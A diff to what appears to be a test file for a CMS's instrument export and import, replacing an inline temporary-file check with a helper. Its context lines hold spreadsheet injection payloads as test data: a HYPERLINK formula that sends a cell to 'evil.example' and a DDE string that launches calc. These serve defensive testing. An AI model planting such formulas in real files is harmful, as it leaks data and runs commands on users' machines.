@@ -17,6 +17,7 @@ import { COLLECTIONS } from '../../cms/constants.ts'
 import { buildSnapshot } from '../../cms/snapshot/index.ts'
 import { callApi, tokenOf } from '../helpers/api.ts'
 import { buildFixture, type Fixture, indicatorData, instrumentData } from '../helpers/fixture.ts'
+import { temporaryCopiesOf } from '../helpers/files.ts'
 import { testPayload } from '../helpers/payload.ts'
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
@@ -121,10 +122,8 @@ describe('the instrument export', () => {
     form.append('file', new Blob([new Uint8Array(response.body)]), `instrumen.${format}`)
     const imported = await callApi('POST', '/instruments/import', { token, form })
     expect(imported.status).toBe(201)
-    // Payload writes the upload to its temporary folder (useTempFiles); the import reads it and removes it.
-    const temporary = payload.config.upload.tempFileDir as string
-    const left = await Promise.all((await fs.readdir(temporary).catch(() => [])).map((name) => fs.readFile(path.join(temporary, name)).catch(() => Buffer.alloc(0))))
-    expect(left.filter((bytes) => bytes.equals(response.body)).length).toBe(0)
+    // Payload writes the upload to its temporary folder (useTempFiles); the import removes it.
+    expect(await temporaryCopiesOf(payload, response.body)).toBe(0)
     const doc = await payload.findByID({ collection: COLLECTIONS.instruments, id: imported.body.id, depth: 0 })
     expect(doc.sections?.[0]?.questions?.[0]?.text).toBe('@SUM(1+1)*cmd|" /C calc"!A0')
     expect(doc.evaluationDimensions?.[0]?.name).toBe('-Output')
